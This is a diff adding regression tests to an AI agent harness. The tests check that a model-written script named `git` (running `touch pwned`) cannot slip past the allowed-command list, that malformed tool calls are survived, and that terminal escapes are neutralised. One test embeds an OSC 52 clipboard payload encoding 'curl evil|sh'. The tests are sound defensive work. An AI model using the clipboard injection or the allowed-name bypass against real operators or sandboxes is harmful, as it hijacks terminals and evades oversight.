@@ -30,6 +30,7 @@ from saphan.loop.agent import (
     read_secret,
     run,
     scrubbed,
+    terminal_safe,
 )
 from tools.model_servers import ChatCompletionsServer
 
@@ -211,6 +212,100 @@ def test_a_class_restricts_the_commands(tmp_path: Path) -> None:
         results = srv.tool_results()
     assert results[0].startswith("refused by the permission class: 'touch'")
     assert not (tmp_path / "wd" / "x").exists()
+
+
+def test_a_program_the_model_wrote_does_not_run_under_an_allowed_name(tmp_path: Path) -> None:
+    """Issue 16: with `git` allowed, `./git` (written by the model) ran. It is
+    refused, as a tool result; the run goes on to its finish."""
+    script = [
+        ("calls", [("write_file", {"path": "git", "content": "#!/bin/sh\ntouch pwned\n"}),
+                   ("run_command", {"argv": ["chmod", "+x", "git"]}),
+                   ("run_command", {"argv": ["./git", "status"]}),
+                   ("run_command", {"argv": "./git status"})]),
+        ("calls", [("finish", {"summary": "tried"})]),
+    ]
+    with ChatCompletionsServer(script) as srv:
+        spec = _spec(tmp_path, srv.base_url, allowed_commands=["git", "chmod"])
+        result = run(spec, SECRET)
+        results = srv.tool_results()
+    assert (tmp_path / "wd" / "git").stat().st_mode & 0o100  # it was made executable
+    assert results[1] == "exit 0\n"
+    for got in results[2:]:
+        assert got.startswith("refused by the permission class: './git' is a path"), got
+    assert not (tmp_path / "wd" / "pwned").exists()
+    assert result["end"] == "finished" and result["summary"] == "tried"
+
+
+def test_malformed_calls_are_answered_and_the_run_goes_on(tmp_path: Path) -> None:
+    """Issue 16: each of these ended the loop with a traceback (no result
+    file). Each is answered `error: …` and the run finishes."""
+    bad = [("run_command", "[" * 100_000),  # nested too deep for json
+           ("run_command", {"argv": "ls 'unclosed"}),
+           ("run_command", {"argv": ["true"], "timeout": 10 ** 400}),
+           ("run_command", {"argv": ["\ud800"]}),
+           ("read_file", {"path": "\ud800"}),
+           ("write_file", {"path": "x", "content": "\udfff"}),
+           ("run_command", {"argv": ["true"], "timeout": True}),
+           ("run_command", "{not json")]
+    script = [("calls", bad), ("calls", [("finish", {"summary": "survived"})])]
+    with ChatCompletionsServer(script) as srv:
+        result = run(_spec(tmp_path, srv.base_url), SECRET)
+        results = srv.tool_results()
+    assert result["end"] == "finished" and result["summary"] == "survived", result
+    assert result["tool_calls"] == len(bad) + 1
+    assert len(results) == len(bad)
+    assert results[2] == "exit 0\n"  # a huge timeout is capped, not an OverflowError
+    for got in results[:2] + results[3:]:
+        assert got.startswith("error: "), got
+    assert "not JSON" in results[0] and "cannot be split" in results[1]
+
+
+def test_the_turn_budget_bounds_malformed_calls_that_alternate(tmp_path: Path) -> None:
+    bad = ("calls", [("run_command", {"argv": "'"})])
+    good = ("calls", [("list_dir", {})])
+    with ChatCompletionsServer([bad, good] * 10) as srv:
+        result = run(_spec(tmp_path, srv.base_url, max_turns=5), SECRET)
+    assert (result["end"], result["turns"]) == ("turn-budget-exhausted", 5)
+
+
+def test_terminal_safe_escapes_controls_but_newline_and_tab() -> None:
+    assert terminal_safe("a\x1b]52;c;aGk=\x07b\x1b[31mred\x1b[0m\tx\ny\r\x9b\x7f\x00\ud800é") == (
+        "a\\x1b]52;c;aGk=\\x07b\\x1b[31mred\\x1b[0m\tx\ny\\r\\x9b\\x7f\\x00\\ud800é")
+
+
+def test_what_the_model_says_reaches_the_terminal_escaped(
+        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Issue 16: an OSC 52 clipboard write and colour codes in the model's
+    text (and in a command's output) reached the operator's terminal raw. The
+    lines on stdout are escaped; the transcript keeps the raw text."""
+    osc = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
+    text = f"hello {osc}\x1b[31mred\x1b[0m\x9b2J\rover\nsecond line"
+    script = [
+        ("raw", json.dumps({"id": "x", "object": "chat.completion", "choices": [
+            {"index": 0, "finish_reason": "tool_calls", "message": {
+                "role": "assistant", "content": text, "tool_calls": [
+                    {"id": "c1", "type": "function", "function": {
+                        "name": "run_command",
+                        "arguments": json.dumps({"argv": ["printf", "\\033]52;c;eA==\\007"]})
+                    }}]}}]})),
+        ("calls", [("read_file", {"path": "esc.txt"}), ("finish", {"summary": "s"})]),
+    ]
+    with ChatCompletionsServer(script) as srv:
+        spec = _spec(tmp_path, srv.base_url)
+        (tmp_path / "wd" / "esc.txt").write_text("\x1b]0;title\x07\x1b[2Jcleared\n")
+        result = run(spec, SECRET)
+        results = srv.tool_results()
+    assert result["end"] == "finished"
+    assert results[0] == "exit 0\n\x1b]52;c;eA==\x07"  # the model reads the output as is
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out and "\r" not in out
+    assert ("[turn 1] model: hello \\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[31mred\\x1b[0m"
+            "\\x9b2J\\rover\nsecond line") in out
+    assert '-> exit 0' in out
+    assert '-> \\x1b]0;title\\x07\\x1b[2Jcleared' in out  # a file's first line, shown
+    raw = _transcript(spec)
+    assert raw[1]["message"]["content"] == text  # the transcript keeps it raw
+    assert raw[2]["result"] == "exit 0\n\x1b]52;c;eA==\x07"
 
 
 # -- as the engine starts it ----------------------------------------------------------------------
